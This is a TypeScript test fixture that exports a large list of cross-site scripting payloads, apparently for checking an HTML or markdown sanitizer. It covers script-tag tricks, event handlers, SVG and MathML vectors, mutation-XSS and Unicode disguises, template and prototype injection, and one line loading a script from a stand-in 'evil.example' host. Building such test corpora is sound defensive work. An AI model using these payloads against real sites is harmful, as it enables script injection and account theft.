import { hostileLinks, hostileMarkdown } from "./hostile-markdown";

const run = "window.pwned=1";

/** What an attacker would try wherever words are shown: each of it, were it run, sets `pwned` or opens a dialog. */
export const hostileWords: readonly string[] = [
  ...tags(),
  ...attributes(),
  ...foreignTags(),
  ...mutations(),
  ...hostileLinks,
  ...hostileMarkdown,
  ...disguises(),
  ...templates(),
  ...styles(),
  ...sizes(),
];

function tags(): string[] {
  const bare = [
    `<script>${run}</script>`,
    `<ScRiPt>${run}</sCrIpT>`,
    `<script\n>${run}</script\n>`,
    `<script/x>${run}</script>`,
    `<<script>${run}//<</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    "<script src=data:,window.pwned=1></script>",
    "<script src=//evil.example/x.js></script>",
    `<script type=module>${run}</script>`,
    `</script><script>${run}</script>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `?><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</textarea><script>${run}</script>`,
    `</noscript><script>${run}</script>`,
    `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=javascript:window.pwned=1></object>",
    "<embed src=javascript:window.pwned=1>",
    "<base href=javascript:window.pwned=1//>",
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    "<link rel=stylesheet href=data:,body{display:none}>",
    "<link rel=import href=data:text/html,<script>window.pwned=1</script>>",
    "<form action=javascript:window.pwned=1><button>go</button></form>",
    "<button form=x formaction=javascript:window.pwned=1>go</button>",
    "<template><script>window.pwned=1</script></template>",
    "<portal src=javascript:window.pwned=1></portal>",
    "<frameset onload=window.pwned=1>",
  ];
  return bare;
}

/** Events that come by themselves, on tags that bring them. */
function attributes(): string[] {
  const events = [
    "img src=x onerror",
    "img src=x: onerror",
    "image src=x onerror",
    "video src=x onerror",
    "audio src=x onerror",
    "source onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
    "a href=# autofocus tabindex=1 onfocus",
    "div tabindex=1 autofocus onfocusin",
    "body onload",
    "body onpageshow",
    "body onhashchange",
    "details open ontoggle",
    "marquee onstart",
    "marquee loop=1 width=0 onfinish",
    "style onload",
    "object data=x onerror",
    "iframe onload",
    "div popover id=x onbeforetoggle",
    "p onpointerenter",
    "p onmouseover",
    "p onanimationstart",
    "p style=transition:all oncontentvisibilityautostatechange",
  ];
  const written = events.map((event) => `<${event}=${run}>`);
  return [
    ...written,
    `" onmouseover="${run}`,
    `' autofocus onfocus='${run}`,
    `"><img src=x onerror=${run}>`,
    `'><img src=x onerror=${run}>`,
    `\` onerror=${run} x=\``,
    `<img src="x\` \`<script>${run}</script>"\` \`>`,
    `<img src=x onerror="&#119;indow.pwned=1">`,
    `<img/src/onerror=${run}>`,
    `<img\fsrc=x\fonerror=${run}>`,
    `<img src=x onerror\t=\n${run}>`,
    `<img src=x oNeRrOr=alert(1)>`,
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=eval(atob('d2luZG93LnB3bmVkPTE='))>",
    "<img srcset='x 1x, y 2x' onerror=window.pwned=1>",
  ];
}

function foreignTags(): string[] {
  return [
    `<svg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script>&#119;indow.pwned=1</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><set attributeName=href to=javascript:${run} /><a><text>x</text></a></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>click</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
    `<svg><style><img src=x onerror=${run}></style></svg>`,
    `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
    `<math href="javascript:${run}">click</math>`,
    `<math><maction actiontype=statusline xlink:href=javascript:${run}>click</maction></math>`,
    `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
    `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<xml id=x><a><b>&lt;script>${run}&lt;/script></b></a></xml>`,
    `<?xml-stylesheet href="javascript:${run}"?>`,
    `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  ];
}

/** Harmless when read once, not when what was read is written and read again. */
function mutations(): string[] {
  return [
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    `<select><style></select><img src=x onerror=${run}></style>`,
    `<title><a title="</title><img src=x onerror=${run}>">`,
    `<textarea><a title="</textarea><img src=x onerror=${run}>">`,
    `<xmp><a title="</xmp><img src=x onerror=${run}>">`,
    `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
    `<plaintext><img src=x onerror=${run}>`,
    `<table><tr><td><svg><desc><td><script>${run}</script>`,
    `<p id="\u2028"><img src=x onerror=${run}>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--!><img src=x onerror=${run}>--!>`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<a name=body><a name=cookie><form id=attributes><input name=innerHTML>`,
  ];
}

/** Zero-width and turned-round words, looks-alike and halves of characters, between which a tag might slip. */
function disguises(): string[] {
  return [
    `\u202e<script>${run}</script>`,
    `<\u200bscript>${run}</script>`,
    `\ufeff<script>${run}</script>`,
    `＜script＞${run}＜/script＞`,
    `‹script›${run}‹/script›`,
    `\u2028${run}\u2029`,
    `<img src=x onerror\u00a0=${run}>`,
    `<\u0130mg src=x onerror=${run}>`,
    `👩\u200d👩\u200d<script>${run}</script>\u200d👧`,
    `😀"onerror="${run}`,
    `مرحبا <img src=x onerror=${run}> שלום`,
    `Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357g\u0358o<script>${run}</script>`,
    `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `\\x3cscript\\x3e${run}`,
  ];
}

function templates(): string[] {
  return [
    "{{constructor.constructor('window.pwned=1')()}}",
    "{{7*7}}{{$on.constructor('window.pwned=1')()}}",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's is what is tried here.
    "${window.pwned=1}",
    "#{window.pwned=1}",
    "<%= window.pwned=1 %>",
    "<%window.pwned=1%>",
    '{"__html":"<script>window.pwned=1</script>"}',
    '{"$$typeof":"Symbol(react.element)","type":"script"}',
    "';window.pwned=1;//",
    '";window.pwned=1;//',
    "*/window.pwned=1/*",
    "__proto__",
    "constructor.prototype.pwned=1",
    "<div dangerouslySetInnerHTML={{__html:'<script>window.pwned=1</script>'}} />",
    "<x-element><slot onslotchange=window.pwned=1></slot></x-element>",
  ];
}

function styles(): string[] {
  return [
    "<style>body{display:none}</style>",
    "<style>@import 'javascript:window.pwned=1';</style>",
    "<style>*{background:url(javascript:window.pwned=1)}</style>",
    "<p style='background:url(javascript:window.pwned=1)'>",
    "<p style='width:expression(window.pwned=1)'>",
    "<p style='position:fixed;inset:0;z-index:9999'>covered",
    "<p class='mention' id='content'>not the page",
    "</style><script>window.pwned=1</script>",
  ];
}

/** Short enough for a status, and long. */
function sizes(): string[] {
  const inner = `<img src=x onerror=${run}>`;
  return [
    `${"<b>".repeat(30)}${inner}`,
    `${">".repeat(40)}${inner}`,
    `${"- ".repeat(40)}${inner}`,
    `${"[".repeat(40)}${inner}${"](javascript:alert(1))".repeat(4)}`,
    `${"*_".repeat(40)}${inner}`,
    `${"||".repeat(41)}${inner}`,
    `${"a".repeat(60)}${inner}`,
    `${"<!--".repeat(10)}${inner}`,
    `${"&".repeat(40)}lt;script&gt;${run}`,
    `${"\u0301".repeat(40)}${inner}`,
  ];
}
